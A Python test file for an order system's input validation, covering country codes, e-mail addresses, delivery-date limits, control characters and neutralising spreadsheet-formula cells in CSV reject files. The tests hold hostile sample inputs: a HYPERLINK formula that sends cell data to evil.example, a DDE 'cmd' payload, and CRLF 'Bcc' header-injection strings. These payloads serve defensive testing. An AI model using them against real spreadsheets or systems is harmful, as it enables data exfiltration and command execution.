"""What people may send: real country codes, one plain e-mail address, dates within the promise
horizon, text without control characters; and reject files that a spreadsheet cannot run."""

from __future__ import annotations

import csv
from datetime import timedelta
from pathlib import Path

import pytest
from typer.testing import CliRunner

from perfectorder.adapters.files import csv_files
from perfectorder.api.app import create_app
from perfectorder.cli.main import app as cli_app
from perfectorder.domain.access import Role
from perfectorder.sample_data import load_sample_store
from perfectorder.services.importing import import_orders
from tests.conftest import START, make_application
from tests.factories import order_payload
from tests.integration.test_bad_orders import row_counts
from tests.integration.test_dashboard_pages import _csrf, _login
from tests.integration.test_import_orders import HEADER

TODAY = START.date()


def refusal(answer) -> tuple[int, str, str | None]:
    error = answer.json()["error"]
    return answer.status_code, error["code"], error["field"]


def with_address(**changes: str) -> dict:
    body = order_payload()
    body["shipping_address"].update(changes)
    return body


@pytest.mark.parametrize("country", ["ZZ", "XX", "EU"])
def test_a_country_code_outside_iso_3166_is_refused(client, application, country):
    before = row_counts(application)
    answer = client.post("/api/v1/orders", json=with_address(country=country))
    assert refusal(answer) == (422, "invalid_country", "shipping_address.country")
    assert row_counts(application) == before


def test_a_country_is_stored_as_its_iso_code_and_uk_means_gb(client):
    for given, stored in [("de", "DE"), ("gB", "GB"), ("UK", "GB")]:
        answer = client.post("/api/v1/orders", json=with_address(country=given, timezone="Europe/London"))
        assert answer.status_code == 201, answer.text
        assert answer.json()["shipping_address"]["country"] == stored


def test_a_customer_registered_with_a_made_up_country_is_refused(client):
    body = {
        "email": "quentin.ashdown@example.com",
        "name": "Quentin Ashdown",
        "address": {
            "name": "Q",
            "line1": "1 Elm Row",
            "city": "Leeds",
            "postal_code": "LS1",
            "country": "ZZ",
        },
    }
    assert refusal(client.post("/api/v1/customers", json=body)) == (422, "invalid_country", "address.country")


@pytest.mark.parametrize(
    ("requested", "code"),
    [("9999-12-31", "requested_date_too_far"), (str(TODAY + timedelta(days=366)), "requested_date_too_far")],
)
def test_a_requested_delivery_date_beyond_the_horizon_is_refused(client, application, requested, code):
    before = row_counts(application)
    answer = client.post("/api/v1/orders", json=order_payload(requested_delivery_date=requested))
    assert refusal(answer) == (422, code, "requested_delivery_date")
    assert answer.json()["error"]["details"]["latest"] == str(TODAY + timedelta(days=365))
    assert row_counts(application) == before


def test_the_horizon_is_a_setting(migrated_sqlite_url, clock):
    application = make_application(migrated_sqlite_url, clock, max_promise_days=30)
    load_sample_store(application.services)
    try:
        from fastapi.testclient import TestClient

        from tests.conftest import api_key

        with TestClient(create_app(application=application), raise_server_exceptions=False) as http:
            http.headers["Authorization"] = f"Bearer {api_key(application)}"
            day31 = str(TODAY + timedelta(days=31))
            refused = http.post("/api/v1/orders", json=order_payload(requested_delivery_date=day31))
            assert refusal(refused) == (422, "requested_date_too_far", "requested_delivery_date")
            day30 = str(TODAY + timedelta(days=30))
            assert (
                http.post("/api/v1/orders", json=order_payload(requested_delivery_date=day30)).status_code
                == 201
            )
    finally:
        application.close()


def test_a_reschedule_beyond_the_horizon_is_refused(client):
    order = client.post("/api/v1/orders", json=order_payload()).json()
    answer = client.post(
        f"/api/v1/orders/{order['id']}/reschedule", json={"new_date": "9999-12-31", "reason": "typo"}
    )
    assert refusal(answer) == (422, "date_too_far", "new_date")
    assert client.get(f"/api/v1/orders/{order['id']}").json()["rescheduled_date"] is None


NOT_ONE_ADDRESS = [
    "a@b.com, c@d.com",
    "a@b.com,c",
    '"x" <a@b.com>',
    '"x"<a@b.com>',
    "Bob<bob@example.com>",
    "a@[127.0.0.1]",
    "josé@example.com",
]


def test_an_email_that_is_not_one_plain_address_is_refused(client, application):
    before = row_counts(application)
    for email in NOT_ONE_ADDRESS:
        body = order_payload(customer={"email": email, "name": "Eve Marsh"})
        assert refusal(client.post("/api/v1/orders", json=body)) == (422, "invalid_email", "customer.email")
        registered = client.post("/api/v1/customers", json={"email": email, "name": "Eve Marsh"})
        assert refusal(registered) == (422, "invalid_email", "email"), email
    assert row_counts(application) == before


@pytest.mark.parametrize(
    ("change", "field"),
    [
        ({"external_ref": "WEB-7\r\nBcc: all@example.com"}, "external_ref"),
        ({"customer": {"email": "nul@example.com", "name": "Nils\x00Berg"}}, "customer.name"),
        (
            {
                "shipping_address": {
                    "name": "N",
                    "line1": "Bahnhofstr. 1\x1b[2J",
                    "city": "Bonn",
                    "postal_code": "53111",
                    "country": "DE",
                }
            },
            "shipping_address.line1",
        ),
        ({"note": "leave at the door\r"}, "note"),
        ({"note": "bell broken\x00"}, "note"),
        ({"shipping_service": "standard\u2028"}, "shipping_service"),
        ({"lines": [{"sku": "MUG-CERAMIC-BLUE\x7f", "quantity": 1}]}, "lines[0].sku"),
    ],
)
def test_control_characters_in_any_text_field_are_refused_naming_the_field(
    client, application, change, field
):
    before = row_counts(application)
    answer = client.post("/api/v1/orders", json=order_payload(**change))
    assert refusal(answer) == (422, "invalid_characters", field)
    assert row_counts(application) == before


def test_a_note_keeps_line_feeds_and_tabs_but_not_carriage_returns(client):
    answer = client.post("/api/v1/orders", json=order_payload(note="ring twice\n\tthen wait"))
    assert answer.status_code == 201, answer.text
    assert answer.json()["note"] == "ring twice\n\tthen wait"
    refused = client.post("/api/v1/orders", json=order_payload(note="ring twice\r\nthen wait"))
    assert refusal(refused) == (422, "invalid_characters", "note")


def test_control_characters_in_operator_actions_are_refused(client):
    order = client.post("/api/v1/orders", json=order_payload()).json()
    cancel = client.post(f"/api/v1/orders/{order['id']}/cancel", json={"reason": "dup\x00licate"})
    assert refusal(cancel) == (422, "invalid_characters", "reason")
    receipt = {"sku": "MUG-CERAMIC-BLUE", "warehouse": "BER", "quantity": 1, "reason": "PO\r\n7"}
    assert refusal(client.post("/api/v1/stock/receipts", json=receipt)) == (
        422,
        "invalid_characters",
        "reason",
    )
    assert client.get(f"/api/v1/orders/{order['id']}").json()["status"] != "cancelled"


def test_a_nul_in_a_dashboard_reschedule_reason_is_a_refusal_page_not_an_error(application, client):
    order = client.post("/api/v1/orders", json=order_payload()).json()
    with _login(application, "nadia", Role.OPERATOR) as http:
        csrf = _csrf(http.get(f"/orders/{order['id']}").text)
        answer = http.post(
            f"/orders/{order['id']}/reschedule",
            data={"csrf": csrf, "new_date": str(TODAY + timedelta(days=9)), "reason": "supplier\x00late"},
        )
    assert answer.status_code == 422
    assert "text/html" in answer.headers["content-type"] and "invalid_characters" in answer.text
    assert client.get(f"/api/v1/orders/{order['id']}").json()["rescheduled_date"] is None


ROW = (
    "web,{ref},EUR,{email},Margot Fenwick,Margot Fenwick,{line1},Berlin,10435,{country},Europe/Berlin,"
    "MUG-CERAMIC-BLUE,1,12.90,card,authorized,12.90"
)


def import_rows(tmp_path: Path, rows: list[str]) -> Path:
    path = tmp_path / "orders.csv"
    path.write_text("\r\n".join([HEADER, *rows]) + "\r\n", encoding="utf-8")
    return path


def test_imported_rows_with_a_bad_country_email_or_control_character_are_rejected_the_rest_placed(
    application, tmp_path
):
    good = {"email": "margot@example.com", "line1": "Kastanienallee 7", "country": "de"}
    path = import_rows(
        tmp_path,
        [
            ROW.format(ref="IMP-GOOD", **good),
            ROW.format(ref="IMP-ZZ", **{**good, "country": "ZZ"}),
            ROW.format(ref="IMP-MAIL", **{**good, "email": '"x <a@b.com>, c@d.com"'}),
            ROW.format(ref="IMP-CTRL", **{**good, "line1": '"Kastanienallee 7\nApt 2"'}),
            ROW.format(ref="IMP-NUL", **{**good, "line1": "Kastanien\x00allee 7"}),
        ],
    )
    result = import_orders(application.services, csv_files.rows(path, encoding="utf-8", delimiter=","))
    assert result.placed == 1
    assert [(r.order_ref, r.code, r.column) for r in result.rejects] == [
        ("IMP-ZZ", "invalid_country", "shipping_address.country"),
        ("IMP-MAIL", "invalid_email", "customer.email"),
        ("IMP-CTRL", "invalid_characters", "ship_line1"),
        ("IMP-NUL", "invalid_characters", "ship_line1"),
    ]
    assert all(r.message for r in result.rejects)


def test_reject_file_cells_a_spreadsheet_would_run_are_neutralised(
    migrated_database_url, tmp_path, monkeypatch
):
    monkeypatch.setenv("PERFECTORDER_DATABASE_URL", migrated_database_url)
    runner = CliRunner()
    assert runner.invoke(cli_app, ["db", "upgrade"]).exit_code == 0
    assert runner.invoke(cli_app, ["demo", "seed"]).exit_code == 0
    hostile = ['=HYPERLINK("http://evil.example/?"&A1)', "+cmd|' /C calc'!A0", "-2+3", "@SUM(A1:A9)"]
    path = tmp_path / "orders.csv"
    with path.open("w", newline="", encoding="utf-8") as f:
        writer = csv.writer(f)
        writer.writerow(HEADER.split(","))
        for ref in hostile:
            address = ["margot@example.com", "Margot Fenwick", "Margot Fenwick", "Kastanienallee 7", "Berlin"]
            rest = [
                "10435",
                "ZZ",
                "Europe/Berlin",
                "MUG-CERAMIC-BLUE",
                "1",
                "12.90",
                "card",
                "authorized",
                "12.90",
            ]
            writer.writerow(["web", ref, "EUR", *address, *rest])
    result = runner.invoke(cli_app, ["import", "orders", str(path)])
    assert result.exit_code == 0, result.output
    with (tmp_path / "orders.csv.rejects.csv").open(newline="", encoding="utf-8") as f:
        rejects = list(csv.DictReader(f))
    assert [r["order_ref"] for r in rejects] == ["'" + ref for ref in hostile]
    assert [r["code"] for r in rejects] == ["invalid_country"] * 4
    assert all(not cell.startswith(("=", "+", "-", "@")) for r in rejects for cell in r.values())


def test_a_control_character_in_a_command_line_reason_is_refused_before_the_database(
    migrated_database_url, monkeypatch
):
    monkeypatch.setenv("PERFECTORDER_DATABASE_URL", migrated_database_url)
    monkeypatch.setenv("COLUMNS", "200")
    runner = CliRunner()
    assert runner.invoke(cli_app, ["db", "upgrade"]).exit_code == 0
    assert runner.invoke(cli_app, ["demo", "seed"]).exit_code == 0
    for args in (
        ["stock", "receive", "VASE-GLASS-TALL", "BER", "7", "--reason", "PO\x00-1203"],
        ["stock", "adjust", "VASE-GLASS-TALL", "BER", "--by", "-1", "--reason", "count\r\nBcc"],
    ):
        result = runner.invoke(cli_app, args)
        assert result.exit_code == 2 and "invalid_characters" in result.output, result.output
    shown = runner.invoke(cli_app, ["stock", "show", "--sku", "VASE-GLASS-TALL", "--warehouse", "BER"])
    assert "│ 60      │ 0        │ 60" in shown.output, shown.output  # on hand, reserved, available
